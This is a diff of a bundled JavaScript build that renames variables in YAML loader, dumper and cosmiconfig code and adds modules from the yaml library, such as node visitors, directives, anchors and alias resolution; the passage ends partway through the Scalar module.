-        if (_hasOwnProperty.call(object, key)) {
-          if (object[key] !== null) return false;
+      const object2 = data;
+      for (const key in object2) {
+        if (_hasOwnProperty.call(object2, key)) {
+          if (object2[key] !== null) return false;
         }
       }
       return true;
@@ -33324,16 +33324,16 @@ var require_loader = __commonJS({
         (c3 - 65536 & 1023) + 56320
       );
     }
-    function setProperty(object, key, value) {
+    function setProperty(object2, key, value) {
       if (key === "__proto__") {
-        Object.defineProperty(object, key, {
+        Object.defineProperty(object2, key, {
           configurable: true,
           enumerable: true,
           writable: true,
           value
         });
       } else {
-        object[key] = value;
+        object2[key] = value;
       }
     }
     var simpleEscapeCheck = new Array(256);
@@ -34967,13 +34967,13 @@ var require_dumper = __commonJS({
       }
       return result;
     }
-    function writeFlowSequence(state, level, object) {
+    function writeFlowSequence(state, level, object2) {
       let _result = "";
       const _tag = state.tag;
-      for (let index = 0, length = object.length; index < length; index += 1) {
-        let value = object[index];
+      for (let index = 0, length = object2.length; index < length; index += 1) {
+        let value = object2[index];
         if (state.replacer) {
-          value = state.replacer.call(object, String(index), value);
+          value = state.replacer.call(object2, String(index), value);
         }
         if (writeNode(state, level, value, false, false) || typeof value === "undefined" && writeNode(state, level, null, false, false)) {
           if (_result !== "") _result += "," + (!state.condenseFlow ? " " : "");
@@ -34983,13 +34983,13 @@ var require_dumper = __commonJS({
       state.tag = _tag;
       state.dump = "[" + _result + "]";
     }
-    function writeBlockSequence(state, level, object, compact) {
+    function writeBlockSequence(state, level, object2, compact) {
       let _result = "";
       const _tag = state.tag;
-      for (let index = 0, length = object.length; index < length; index += 1) {
-        let value = object[index];
+      for (let index = 0, length = object2.length; index < length; index += 1) {
+        let value = object2[index];
         if (state.replacer) {
-          value = state.replacer.call(object, String(index), value);
+          value = state.replacer.call(object2, String(index), value);
         }
         if (writeNode(state, level + 1, value, true, true, false, true) || typeof value === "undefined" && writeNode(state, level + 1, null, true, true, false, true)) {
           if (!compact || _result !== "") {
@@ -35006,18 +35006,18 @@ var require_dumper = __commonJS({
       state.tag = _tag;
       state.dump = _result || "[]";
     }
-    function writeFlowMapping(state, level, object) {
+    function writeFlowMapping(state, level, object2) {
       let _result = "";
       const _tag = state.tag;
-      const objectKeyList = Object.keys(object);
+      const objectKeyList = Object.keys(object2);
       for (let index = 0, length = objectKeyList.length; index < length; index += 1) {
         let pairBuffer = "";
         if (_result !== "") pairBuffer += ", ";
         if (state.condenseFlow) pairBuffer += '"';
         const objectKey = objectKeyList[index];
-        let objectValue = object[objectKey];
+        let objectValue = object2[objectKey];
         if (state.replacer) {
-          objectValue = state.replacer.call(object, objectKey, objectValue);
+          objectValue = state.replacer.call(object2, objectKey, objectValue);
         }
         if (!writeNode(state, level, objectKey, false, false)) {
           continue;
@@ -35033,10 +35033,10 @@ var require_dumper = __commonJS({
       state.tag = _tag;
       state.dump = "{" + _result + "}";
     }
-    function writeBlockMapping(state, level, object, compact) {
+    function writeBlockMapping(state, level, object2, compact) {
       let _result = "";
       const _tag = state.tag;
-      const objectKeyList = Object.keys(object);
+      const objectKeyList = Object.keys(object2);
       if (state.sortKeys === true) {
         objectKeyList.sort();
       } else if (typeof state.sortKeys === "function") {
@@ -35050,9 +35050,9 @@ var require_dumper = __commonJS({
           pairBuffer += generateNextLine(state, level);
         }
         const objectKey = objectKeyList[index];
-        let objectValue = object[objectKey];
+        let objectValue = object2[objectKey];
         if (state.replacer) {
-          objectValue = state.replacer.call(object, objectKey, objectValue);
+          objectValue = state.replacer.call(object2, objectKey, objectValue);
         }
         if (!writeNode(state, level + 1, objectKey, true, true, true)) {
           continue;
@@ -35083,14 +35083,14 @@ var require_dumper = __commonJS({
       state.tag = _tag;
       state.dump = _result || "{}";
     }
-    function detectType(state, object, explicit) {
+    function detectType(state, object2, explicit) {
       const typeList = explicit ? state.explicitTypes : state.implicitTypes;
       for (let index = 0, length = typeList.length; index < length; index += 1) {
         const type = typeList[index];
-        if ((type.instanceOf || type.predicate) && (!type.instanceOf || typeof object === "object" && object instanceof type.instanceOf) && (!type.predicate || type.predicate(object))) {
+        if ((type.instanceOf || type.predicate) && (!type.instanceOf || typeof object2 === "object" && object2 instanceof type.instanceOf) && (!type.predicate || type.predicate(object2))) {
           if (explicit) {
             if (type.multi && type.representName) {
-              state.tag = type.representName(object);
+              state.tag = type.representName(object2);
             } else {
               state.tag = type.tag;
             }
@@ -35101,9 +35101,9 @@ var require_dumper = __commonJS({
             const style = state.styleMap[type.tag] || type.defaultStyle;
             let _result;
             if (_toString.call(type.represent) === "[object Function]") {
-              _result = type.represent(object, style);
+              _result = type.represent(object2, style);
             } else if (_hasOwnProperty.call(type.represent, style)) {
-              _result = type.represent[style](object, style);
+              _result = type.represent[style](object2, style);
             } else {
               throw new YAMLException("!<" + type.tag + '> tag resolver accepts not "' + style + '" style');
             }
@@ -35114,11 +35114,11 @@ var require_dumper = __commonJS({
       }
       return false;
     }
-    function writeNode(state, level, object, block, compact, iskey, isblockseq) {
+    function writeNode(state, level, object2, block, compact, iskey, isblockseq) {
       state.tag = null;
-      state.dump = object;
-      if (!detectType(state, object, false)) {
-        detectType(state, object, true);
+      state.dump = object2;
+      if (!detectType(state, object2, false)) {
+        detectType(state, object2, true);
       }
       const type = _toString.call(state.dump);
       const inblock = block;
@@ -35129,7 +35129,7 @@ var require_dumper = __commonJS({
       let duplicateIndex;
       let duplicate;
       if (objectOrArray) {
-        duplicateIndex = state.duplicates.indexOf(object);
+        duplicateIndex = state.duplicates.indexOf(object2);
         duplicate = duplicateIndex !== -1;
       }
       if (state.tag !== null && state.tag !== "?" || duplicate || state.indent !== 2 && level > 0) {
@@ -35195,33 +35195,33 @@ var require_dumper = __commonJS({
       }
       return true;
     }
-    function getDuplicateReferences(object, state) {
+    function getDuplicateReferences(object2, state) {
       const objects = [];
       const duplicatesIndexes = [];
-      inspectNode(object, objects, duplicatesIndexes);
+      inspectNode(object2, objects, duplicatesIndexes);
       const length = duplicatesIndexes.length;
       for (let index = 0; index < length; index += 1) {
         state.duplicates.push(objects[duplicatesIndexes[index]]);
       }
       state.usedDuplicates = new Array(length);
     }
-    function inspectNode(object, objects, duplicatesIndexes) {
-      if (object !== null && typeof object === "object") {
-        const index = objects.indexOf(object);
+    function inspectNode(object2, objects, duplicatesIndexes) {
+      if (object2 !== null && typeof object2 === "object") {
+        const index = objects.indexOf(object2);
         if (index !== -1) {
           if (duplicatesIndexes.indexOf(index) === -1) {
             duplicatesIndexes.push(index);
           }
         } else {
-          objects.push(object);
-          if (Array.isArray(object)) {
-            for (let i3 = 0, length = object.length; i3 < length; i3 += 1) {
-              inspectNode(object[i3], objects, duplicatesIndexes);
+          objects.push(object2);
+          if (Array.isArray(object2)) {
+            for (let i3 = 0, length = object2.length; i3 < length; i3 += 1) {
+              inspectNode(object2[i3], objects, duplicatesIndexes);
             }
           } else {
-            const objectKeyList = Object.keys(object);
+            const objectKeyList = Object.keys(object2);
             for (let i3 = 0, length = objectKeyList.length; i3 < length; i3 += 1) {
-              inspectNode(object[objectKeyList[i3]], objects, duplicatesIndexes);
+              inspectNode(object2[objectKeyList[i3]], objects, duplicatesIndexes);
             }
           }
         }
@@ -35322,13 +35322,13 @@ var require_loaders = __commonJS({
       }
     };
     exports.loadJs = loadJs;
-    var parseJson;
+    var parseJson2;
     var loadJson = function loadJson2(filepath, content) {
-      if (parseJson === void 0) {
-        parseJson = require_parse_json();
+      if (parseJson2 === void 0) {
+        parseJson2 = require_parse_json();
       }
       try {
-        return parseJson(content);
+        return parseJson2(content);
       } catch (error2) {
         error2.message = `JSON Error in ${filepath}:
 ${error2.message}`;
@@ -36195,7 +36195,7 @@ var require_dist = __commonJS({
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.defaultLoadersSync = exports.defaultLoaders = exports.globalConfigSearchPlacesSync = exports.globalConfigSearchPlaces = exports.getDefaultSearchPlacesSync = exports.getDefaultSearchPlaces = void 0;
-    exports.cosmiconfig = cosmiconfig2;
+    exports.cosmiconfig = cosmiconfig;
     exports.cosmiconfigSync = cosmiconfigSync;
     var defaults_1 = require_defaults2();
     Object.defineProperty(exports, "defaultLoaders", { enumerable: true, get: function() {
@@ -36327,7 +36327,7 @@ var require_dist = __commonJS({
       };
       return mergeOptionsBase(moduleName, defaults, options);
     }
-    function cosmiconfig2(moduleName, options = {}) {
+    function cosmiconfig(moduleName, options = {}) {
       const normalizedOptions = mergeOptions2(moduleName, options);
       const explorer = new Explorer_js_1.Explorer(normalizedOptions);
       return {
@@ -36352,6 +36352,7336 @@ var require_dist = __commonJS({
   }
 });
 
+// node_modules/yaml/dist/nodes/identity.js
+var require_identity = __commonJS({
+  "node_modules/yaml/dist/nodes/identity.js"(exports) {
+    "use strict";
+    var ALIAS = /* @__PURE__ */ Symbol.for("yaml.alias");
+    var DOC = /* @__PURE__ */ Symbol.for("yaml.document");
+    var MAP = /* @__PURE__ */ Symbol.for("yaml.map");
+    var PAIR = /* @__PURE__ */ Symbol.for("yaml.pair");
+    var SCALAR = /* @__PURE__ */ Symbol.for("yaml.scalar");
+    var SEQ = /* @__PURE__ */ Symbol.for("yaml.seq");
+    var NODE_TYPE = /* @__PURE__ */ Symbol.for("yaml.node.type");
+    var isAlias2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === ALIAS;
+    var isDocument = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === DOC;
+    var isMap2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === MAP;
+    var isPair = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === PAIR;
+    var isScalar3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SCALAR;
+    var isSeq4 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SEQ;
+    function isCollection(node) {
+      if (node && typeof node === "object")
+        switch (node[NODE_TYPE]) {
+          case MAP:
+          case SEQ:
+            return true;
+        }
+      return false;
+    }
+    function isNode(node) {
+      if (node && typeof node === "object")
+        switch (node[NODE_TYPE]) {
+          case ALIAS:
+          case MAP:
+          case SCALAR:
+          case SEQ:
+            return true;
+        }
+      return false;
+    }
+    var hasAnchor = (node) => (isScalar3(node) || isCollection(node)) && !!node.anchor;
+    exports.ALIAS = ALIAS;
+    exports.DOC = DOC;
+    exports.MAP = MAP;
+    exports.NODE_TYPE = NODE_TYPE;
+    exports.PAIR = PAIR;
+    exports.SCALAR = SCALAR;
+    exports.SEQ = SEQ;
+    exports.hasAnchor = hasAnchor;
+    exports.isAlias = isAlias2;
+    exports.isCollection = isCollection;
+    exports.isDocument = isDocument;
+    exports.isMap = isMap2;
+    exports.isNode = isNode;
+    exports.isPair = isPair;
+    exports.isScalar = isScalar3;
+    exports.isSeq = isSeq4;
+  }
+});
+
+// node_modules/yaml/dist/visit.js
+var require_visit = __commonJS({
+  "node_modules/yaml/dist/visit.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var BREAK = /* @__PURE__ */ Symbol("break visit");
+    var SKIP = /* @__PURE__ */ Symbol("skip children");
+    var REMOVE = /* @__PURE__ */ Symbol("remove node");
+    function visit(node, visitor) {
+      const visitor_ = initVisitor(visitor);
+      if (identity3.isDocument(node)) {
+        const cd = visit_(null, node.contents, visitor_, Object.freeze([node]));
+        if (cd === REMOVE)
+          node.contents = null;
+      } else
+        visit_(null, node, visitor_, Object.freeze([]));
+    }
+    visit.BREAK = BREAK;
+    visit.SKIP = SKIP;
+    visit.REMOVE = REMOVE;
+    function visit_(key, node, visitor, path6) {
+      const ctrl = callVisitor(key, node, visitor, path6);
+      if (identity3.isNode(ctrl) || identity3.isPair(ctrl)) {
+        replaceNode(key, path6, ctrl);
+        return visit_(key, ctrl, visitor, path6);
+      }
+      if (typeof ctrl !== "symbol") {
+        if (identity3.isCollection(node)) {
+          path6 = Object.freeze(path6.concat(node));
+          for (let i3 = 0; i3 < node.items.length; ++i3) {
+            const ci = visit_(i3, node.items[i3], visitor, path6);
+            if (typeof ci === "number")
+              i3 = ci - 1;
+            else if (ci === BREAK)
+              return BREAK;
+            else if (ci === REMOVE) {
+              node.items.splice(i3, 1);
+              i3 -= 1;
+            }
+          }
+        } else if (identity3.isPair(node)) {
+          path6 = Object.freeze(path6.concat(node));
+          const ck = visit_("key", node.key, visitor, path6);
+          if (ck === BREAK)
+            return BREAK;
+          else if (ck === REMOVE)
+            node.key = null;
+          const cv = visit_("value", node.value, visitor, path6);
+          if (cv === BREAK)
+            return BREAK;
+          else if (cv === REMOVE)
+            node.value = null;
+        }
+      }
+      return ctrl;
+    }
+    async function visitAsync(node, visitor) {
+      const visitor_ = initVisitor(visitor);
+      if (identity3.isDocument(node)) {
+        const cd = await visitAsync_(null, node.contents, visitor_, Object.freeze([node]));
+        if (cd === REMOVE)
+          node.contents = null;
+      } else
+        await visitAsync_(null, node, visitor_, Object.freeze([]));
+    }
+    visitAsync.BREAK = BREAK;
+    visitAsync.SKIP = SKIP;
+    visitAsync.REMOVE = REMOVE;
+    async function visitAsync_(key, node, visitor, path6) {
+      const ctrl = await callVisitor(key, node, visitor, path6);
+      if (identity3.isNode(ctrl) || identity3.isPair(ctrl)) {
+        replaceNode(key, path6, ctrl);
+        return visitAsync_(key, ctrl, visitor, path6);
+      }
+      if (typeof ctrl !== "symbol") {
+        if (identity3.isCollection(node)) {
+          path6 = Object.freeze(path6.concat(node));
+          for (let i3 = 0; i3 < node.items.length; ++i3) {
+            const ci = await visitAsync_(i3, node.items[i3], visitor, path6);
+            if (typeof ci === "number")
+              i3 = ci - 1;
+            else if (ci === BREAK)
+              return BREAK;
+            else if (ci === REMOVE) {
+              node.items.splice(i3, 1);
+              i3 -= 1;
+            }
+          }
+        } else if (identity3.isPair(node)) {
+          path6 = Object.freeze(path6.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path6);
+          if (ck === BREAK)
+            return BREAK;
+          else if (ck === REMOVE)
+            node.key = null;
+          const cv = await visitAsync_("value", node.value, visitor, path6);
+          if (cv === BREAK)
+            return BREAK;
+          else if (cv === REMOVE)
+            node.value = null;
+        }
+      }
+      return ctrl;
+    }
+    function initVisitor(visitor) {
+      if (typeof visitor === "object" && (visitor.Collection || visitor.Node || visitor.Value)) {
+        return Object.assign({
+          Alias: visitor.Node,
+          Map: visitor.Node,
+          Scalar: visitor.Node,
+          Seq: visitor.Node
+        }, visitor.Value && {
+          Map: visitor.Value,
+          Scalar: visitor.Value,
+          Seq: visitor.Value
+        }, visitor.Collection && {
+          Map: visitor.Collection,
+          Seq: visitor.Collection
+        }, visitor);
+      }
+      return visitor;
+    }
+    function callVisitor(key, node, visitor, path6) {
+      if (typeof visitor === "function")
+        return visitor(key, node, path6);
+      if (identity3.isMap(node))
+        return visitor.Map?.(key, node, path6);
+      if (identity3.isSeq(node))
+        return visitor.Seq?.(key, node, path6);
+      if (identity3.isPair(node))
+        return visitor.Pair?.(key, node, path6);
+      if (identity3.isScalar(node))
+        return visitor.Scalar?.(key, node, path6);
+      if (identity3.isAlias(node))
+        return visitor.Alias?.(key, node, path6);
+      return void 0;
+    }
+    function replaceNode(key, path6, node) {
+      const parent = path6[path6.length - 1];
+      if (identity3.isCollection(parent)) {
+        parent.items[key] = node;
+      } else if (identity3.isPair(parent)) {
+        if (key === "key")
+          parent.key = node;
+        else
+          parent.value = node;
+      } else if (identity3.isDocument(parent)) {
+        parent.contents = node;
+      } else {
+        const pt = identity3.isAlias(parent) ? "alias" : "scalar";
+        throw new Error(`Cannot replace node with ${pt} parent`);
+      }
+    }
+    exports.visit = visit;
+    exports.visitAsync = visitAsync;
+  }
+});
+
+// node_modules/yaml/dist/doc/directives.js
+var require_directives = __commonJS({
+  "node_modules/yaml/dist/doc/directives.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var visit = require_visit();
+    var escapeChars = {
+      "!": "%21",
+      ",": "%2C",
+      "[": "%5B",
+      "]": "%5D",
+      "{": "%7B",
+      "}": "%7D"
+    };
+    var escapeTagName = (tn) => tn.replace(/[!,[\]{}]/g, (ch) => escapeChars[ch]);
+    var Directives = class _Directives {
+      constructor(yaml, tags) {
+        this.docStart = null;
+        this.docEnd = false;
+        this.yaml = Object.assign({}, _Directives.defaultYaml, yaml);
+        this.tags = Object.assign({}, _Directives.defaultTags, tags);
+      }
+      clone() {
+        const copy = new _Directives(this.yaml, this.tags);
+        copy.docStart = this.docStart;
+        return copy;
+      }
+      /**
+       * During parsing, get a Directives instance for the current document and
+       * update the stream state according to the current version's spec.
+       */
+      atDocument() {
+        const res = new _Directives(this.yaml, this.tags);
+        switch (this.yaml.version) {
+          case "1.1":
+            this.atNextDocument = true;
+            break;
+          case "1.2":
+            this.atNextDocument = false;
+            this.yaml = {
+              explicit: _Directives.defaultYaml.explicit,
+              version: "1.2"
+            };
+            this.tags = Object.assign({}, _Directives.defaultTags);
+            break;
+        }
+        return res;
+      }
+      /**
+       * @param onError - May be called even if the action was successful
+       * @returns `true` on success
+       */
+      add(line, onError) {
+        if (this.atNextDocument) {
+          this.yaml = { explicit: _Directives.defaultYaml.explicit, version: "1.1" };
+          this.tags = Object.assign({}, _Directives.defaultTags);
+          this.atNextDocument = false;
+        }
+        const parts2 = line.trim().split(/[ \t]+/);
+        const name2 = parts2.shift();
+        switch (name2) {
+          case "%TAG": {
+            if (parts2.length !== 2) {
+              onError(0, "%TAG directive should contain exactly two parts");
+              if (parts2.length < 2)
+                return false;
+            }
+            const [handle2, prefix] = parts2;
+            this.tags[handle2] = prefix;
+            return true;
+          }
+          case "%YAML": {
+            this.yaml.explicit = true;
+            if (parts2.length !== 1) {
+              onError(0, "%YAML directive should contain exactly one part");
+              return false;
+            }
+            const [version] = parts2;
+            if (version === "1.1" || version === "1.2") {
+              this.yaml.version = version;
+              return true;
+            } else {
+              const isValid = /^\d+\.\d+$/.test(version);
+              onError(6, `Unsupported YAML version ${version}`, isValid);
+              return false;
+            }
+          }
+          default:
+            onError(0, `Unknown directive ${name2}`, true);
+            return false;
+        }
+      }
+      /**
+       * Resolves a tag, matching handles to those defined in %TAG directives.
+       *
+       * @returns Resolved tag, which may also be the non-specific tag `'!'` or a
+       *   `'!local'` tag, or `null` if unresolvable.
+       */
+      tagName(source, onError) {
+        if (source === "!")
+          return "!";
+        if (source[0] !== "!") {
+          onError(`Not a valid tag: ${source}`);
+          return null;
+        }
+        if (source[1] === "<") {
+          const verbatim = source.slice(2, -1);
+          if (verbatim === "!" || verbatim === "!!") {
+            onError(`Verbatim tags aren't resolved, so ${source} is invalid.`);
+            return null;
+          }
+          if (source[source.length - 1] !== ">")
+            onError("Verbatim tags must end with a >");
+          return verbatim;
+        }
+        const [, handle2, suffix] = source.match(/^(.*!)([^!]*)$/s);
+        if (!suffix)
+          onError(`The ${source} tag has no suffix`);
+        const prefix = this.tags[handle2];
+        if (prefix) {
+          try {
+            return prefix + decodeURIComponent(suffix);
+          } catch (error2) {
+            onError(String(error2));
+            return null;
+          }
+        }
+        if (handle2 === "!")
+          return source;
+        onError(`Could not resolve tag: ${source}`);
+        return null;
+      }
+      /**
+       * Given a fully resolved tag, returns its printable string form,
+       * taking into account current tag prefixes and defaults.
+       */
+      tagString(tag) {
+        for (const [handle2, prefix] of Object.entries(this.tags)) {
+          if (tag.startsWith(prefix))
+            return handle2 + escapeTagName(tag.substring(prefix.length));
+        }
+        return tag[0] === "!" ? tag : `!<${tag}>`;
+      }
+      toString(doc) {
+        const lines = this.yaml.explicit ? [`%YAML ${this.yaml.version || "1.2"}`] : [];
+        const tagEntries = Object.entries(this.tags);
+        let tagNames;
+        if (doc && tagEntries.length > 0 && identity3.isNode(doc.contents)) {
+          const tags = {};
+          visit.visit(doc.contents, (_key, node) => {
+            if (identity3.isNode(node) && node.tag)
+              tags[node.tag] = true;
+          });
+          tagNames = Object.keys(tags);
+        } else
+          tagNames = [];
+        for (const [handle2, prefix] of tagEntries) {
+          if (handle2 === "!!" && prefix === "tag:yaml.org,2002:")
+            continue;
+          if (!doc || tagNames.some((tn) => tn.startsWith(prefix)))
+            lines.push(`%TAG ${handle2} ${prefix}`);
+        }
+        return lines.join("\n");
+      }
+    };
+    Directives.defaultYaml = { explicit: false, version: "1.2" };
+    Directives.defaultTags = { "!!": "tag:yaml.org,2002:" };
+    exports.Directives = Directives;
+  }
+});
+
+// node_modules/yaml/dist/doc/anchors.js
+var require_anchors = __commonJS({
+  "node_modules/yaml/dist/doc/anchors.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var visit = require_visit();
+    function anchorIsValid(anchor) {
+      if (/[\x00-\x19\s,[\]{}]/.test(anchor)) {
+        const sa = JSON.stringify(anchor);
+        const msg = `Anchor must not contain whitespace or control characters: ${sa}`;
+        throw new Error(msg);
+      }
+      return true;
+    }
+    function anchorNames(root) {
+      const anchors = /* @__PURE__ */ new Set();
+      visit.visit(root, {
+        Value(_key, node) {
+          if (node.anchor)
+            anchors.add(node.anchor);
+        }
+      });
+      return anchors;
+    }
+    function findNewAnchor(prefix, exclude) {
+      for (let i3 = 1; true; ++i3) {
+        const name2 = `${prefix}${i3}`;
+        if (!exclude.has(name2))
+          return name2;
+      }
+    }
+    function createNodeAnchors(doc, prefix) {
+      const aliasObjects = [];
+      const sourceObjects = /* @__PURE__ */ new Map();
+      let prevAnchors = null;
+      return {
+        onAnchor: (source) => {
+          aliasObjects.push(source);
+          prevAnchors ?? (prevAnchors = anchorNames(doc));
+          const anchor = findNewAnchor(prefix, prevAnchors);
+          prevAnchors.add(anchor);
+          return anchor;
+        },
+        /**
+         * With circular references, the source node is only resolved after all
+         * of its child nodes are. This is why anchors are set only after all of
+         * the nodes have been created.
+         */
+        setAnchors: () => {
+          for (const source of aliasObjects) {
+            const ref = sourceObjects.get(source);
+            if (typeof ref === "object" && ref.anchor && (identity3.isScalar(ref.node) || identity3.isCollection(ref.node))) {
+              ref.node.anchor = ref.anchor;
+            } else {
+              const error2 = new Error("Failed to resolve repeated object (this should not happen)");
+              error2.source = source;
+              throw error2;
+            }
+          }
+        },
+        sourceObjects
+      };
+    }
+    exports.anchorIsValid = anchorIsValid;
+    exports.anchorNames = anchorNames;
+    exports.createNodeAnchors = createNodeAnchors;
+    exports.findNewAnchor = findNewAnchor;
+  }
+});
+
+// node_modules/yaml/dist/doc/applyReviver.js
+var require_applyReviver = __commonJS({
+  "node_modules/yaml/dist/doc/applyReviver.js"(exports) {
+    "use strict";
+    function applyReviver(reviver, obj, key, val) {
+      if (val && typeof val === "object") {
+        if (Array.isArray(val)) {
+          for (let i3 = 0, len = val.length; i3 < len; ++i3) {
+            const v0 = val[i3];
+            const v1 = applyReviver(reviver, val, String(i3), v0);
+            if (v1 === void 0)
+              delete val[i3];
+            else if (v1 !== v0)
+              val[i3] = v1;
+          }
+        } else if (val instanceof Map) {
+          for (const k of Array.from(val.keys())) {
+            const v0 = val.get(k);
+            const v1 = applyReviver(reviver, val, k, v0);
+            if (v1 === void 0)
+              val.delete(k);
+            else if (v1 !== v0)
+              val.set(k, v1);
+          }
+        } else if (val instanceof Set) {
+          for (const v0 of Array.from(val)) {
+            const v1 = applyReviver(reviver, val, v0, v0);
+            if (v1 === void 0)
+              val.delete(v0);
+            else if (v1 !== v0) {
+              val.delete(v0);
+              val.add(v1);
+            }
+          }
+        } else {
+          for (const [k, v0] of Object.entries(val)) {
+            const v1 = applyReviver(reviver, val, k, v0);
+            if (v1 === void 0)
+              delete val[k];
+            else if (v1 !== v0)
+              val[k] = v1;
+          }
+        }
+      }
+      return reviver.call(obj, key, val);
+    }
+    exports.applyReviver = applyReviver;
+  }
+});
+
+// node_modules/yaml/dist/nodes/toJS.js
+var require_toJS = __commonJS({
+  "node_modules/yaml/dist/nodes/toJS.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    function toJS(value, arg, ctx) {
+      if (Array.isArray(value))
+        return value.map((v, i3) => toJS(v, String(i3), ctx));
+      if (value && typeof value.toJSON === "function") {
+        if (!ctx || !identity3.hasAnchor(value))
+          return value.toJSON(arg, ctx);
+        const data = { aliasCount: 0, count: 1, res: void 0 };
+        ctx.anchors.set(value, data);
+        ctx.onCreate = (res2) => {
+          data.res = res2;
+          delete ctx.onCreate;
+        };
+        const res = value.toJSON(arg, ctx);
+        if (ctx.onCreate)
+          ctx.onCreate(res);
+        return res;
+      }
+      if (typeof value === "bigint" && !ctx?.keep)
+        return Number(value);
+      return value;
+    }
+    exports.toJS = toJS;
+  }
+});
+
+// node_modules/yaml/dist/nodes/Node.js
+var require_Node = __commonJS({
+  "node_modules/yaml/dist/nodes/Node.js"(exports) {
+    "use strict";
+    var applyReviver = require_applyReviver();
+    var identity3 = require_identity();
+    var toJS = require_toJS();
+    var NodeBase = class {
+      constructor(type) {
+        Object.defineProperty(this, identity3.NODE_TYPE, { value: type });
+      }
+      /** Create a copy of this node.  */
+      clone() {
+        const copy = Object.create(Object.getPrototypeOf(this), Object.getOwnPropertyDescriptors(this));
+        if (this.range)
+          copy.range = this.range.slice();
+        return copy;
+      }
+      /** A plain JavaScript representation of this node. */
+      toJS(doc, { mapAsMap, maxAliasCount, onAnchor, reviver } = {}) {
+        if (!identity3.isDocument(doc))
+          throw new TypeError("A document argument is required");
+        const ctx = {
+          anchors: /* @__PURE__ */ new Map(),
+          doc,
+          keep: true,
+          mapAsMap: mapAsMap === true,
+          mapKeyWarned: false,
+          maxAliasCount: typeof maxAliasCount === "number" ? maxAliasCount : 100
+        };
+        const res = toJS.toJS(this, "", ctx);
+        if (typeof onAnchor === "function")
+          for (const { count: count2, res: res2 } of ctx.anchors.values())
+            onAnchor(res2, count2);
+        return typeof reviver === "function" ? applyReviver.applyReviver(reviver, { "": res }, "", res) : res;
+      }
+    };
+    exports.NodeBase = NodeBase;
+  }
+});
+
+// node_modules/yaml/dist/nodes/Alias.js
+var require_Alias = __commonJS({
+  "node_modules/yaml/dist/nodes/Alias.js"(exports) {
+    "use strict";
+    var anchors = require_anchors();
+    var visit = require_visit();
+    var identity3 = require_identity();
+    var Node2 = require_Node();
+    var toJS = require_toJS();
+    var Alias = class extends Node2.NodeBase {
+      constructor(source) {
+        super(identity3.ALIAS);
+        this.source = source;
+        Object.defineProperty(this, "tag", {
+          set() {
+            throw new Error("Alias nodes cannot have tags");
+          }
+        });
+      }
+      /**
+       * Resolve the value of this alias within `doc`, finding the last
+       * instance of the `source` anchor before this node.
+       */
+      resolve(doc, ctx) {
+        if (ctx?.maxAliasCount === 0)
+          throw new ReferenceError("Alias resolution is disabled");
+        let nodes;
+        if (ctx?.aliasResolveCache) {
+          nodes = ctx.aliasResolveCache;
+        } else {
+          nodes = [];
+          visit.visit(doc, {
+            Node: (_key, node) => {
+              if (identity3.isAlias(node) || identity3.hasAnchor(node))
+                nodes.push(node);
+            }
+          });
+          if (ctx)
+            ctx.aliasResolveCache = nodes;
+        }
+        let found = void 0;
+        for (const node of nodes) {
+          if (node === this)
+            break;
+          if (node.anchor === this.source)
+            found = node;
+        }
+        if (found && ctx) {
+          const { anchors: anchors2, doc: doc2, maxAliasCount } = ctx;
+          let data = anchors2.get(found);
+          if (!data) {
+            toJS.toJS(found, null, ctx);
+            data = anchors2.get(found);
+          }
+          if (data?.res === void 0) {
+            const msg = "This should not happen: Alias anchor was not resolved?";
+            throw new ReferenceError(msg);
+          }
+          if (maxAliasCount >= 0) {
+            data.count += 1;
+            if (data.aliasCount === 0)
+              data.aliasCount = getAliasCount(doc2, found, anchors2);
+            if (data.count * data.aliasCount > maxAliasCount) {
+              const msg = "Excessive alias count indicates a resource exhaustion attack";
+              throw new ReferenceError(msg);
+            }
+          }
+        }
+        return found;
+      }
+      toJSON(_arg, ctx) {
+        if (!ctx)
+          return { source: this.source };
+        const source = this.resolve(ctx.doc, ctx);
+        if (!source) {
+          const msg = `Unresolved alias (the anchor must be set before the alias): ${this.source}`;
+          throw new ReferenceError(msg);
+        }
+        return ctx.anchors.get(source).res;
+      }
+      toString(ctx, _onComment, _onChompKeep) {
+        const src = `*${this.source}`;
+        if (ctx) {
+          anchors.anchorIsValid(this.source);
+          if (ctx.options.verifyAliasOrder && !ctx.anchors.has(this.source)) {
+            const msg = `Unresolved alias (the anchor must be set before the alias): ${this.source}`;
+            throw new Error(msg);
+          }
+          if (ctx.implicitKey)
+            return `${src} `;
+        }
+        return src;
+      }
+    };
+    function getAliasCount(doc, node, anchors2) {
+      if (identity3.isAlias(node)) {
+        const source = node.resolve(doc);
+        const anchor = anchors2 && source && anchors2.get(source);
+        return anchor ? anchor.count * anchor.aliasCount : 0;
+      } else if (identity3.isCollection(node)) {
+        let count2 = 0;
+        for (const item of node.items) {
+          const c3 = getAliasCount(doc, item, anchors2);
+          if (c3 > count2)
+            count2 = c3;
+        }
+        return count2;
+      } else if (identity3.isPair(node)) {
+        const kc = getAliasCount(doc, node.key, anchors2);
+        const vc = getAliasCount(doc, node.value, anchors2);
+        return Math.max(kc, vc);
+      }
+      return 1;
+    }
+    exports.Alias = Alias;
+  }
+});
+
+// node_modules/yaml/dist/nodes/Scalar.js
+var require_Scalar = __commonJS({
+  "node_modules/yaml/dist/nodes/Scalar.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var Node2 = require_Node();
+    var toJS = require_toJS();
+    var isScalarValue = (value) => !value || typeof value !== "function" && typeof value !== "object";
+    var Scalar = class extends Node2.NodeBase {
+      constructor(value) {
+        super(identity3.SCALAR);
+        this.value = value;
+      }
+      toJSON(arg, ctx) {
+        return ctx?.keep ? this.value : toJS.toJS(this.value, arg, ctx);
+      }
+      toString() {
+        return String(this.value);
+      }
+    };
+    Scalar.BLOCK_FOLDED = "BLOCK_FOLDED";
+    Scalar.BLOCK_LITERAL = "BLOCK_LITERAL";
+    Scalar.PLAIN = "PLAIN";
